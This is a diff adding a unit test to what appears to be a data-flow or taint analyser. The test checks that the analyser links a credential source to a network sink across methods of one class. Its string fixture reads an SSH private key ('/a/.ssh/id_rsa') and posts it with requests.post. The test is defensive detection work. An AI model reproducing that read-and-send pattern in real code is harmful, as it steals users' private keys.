@@ -49,6 +49,19 @@ def test_a_source_reaches_a_sink(source: str, flow: tuple[str, str], near_miss: 
     assert flow not in flows(near_miss)
 
 
+def test_what_one_method_puts_into_an_object_another_sends() -> None:
+    source = """
+        class A:
+            def __init__(self): self.out = []
+            def grab(self): self.out.append(open('/a/.ssh/id_rsa').read())
+            def send(self): requests.post(u, json=self.out)
+        A().grab()
+    """
+    assert ("credential", "network") in {
+        (f.source, f.sink) for f in facts_of("import requests" + source.replace("\n        ", "\n")).flows
+    }
+
+
 def test_a_flow_goes_through_modules() -> None:
     found = package(
         p="",
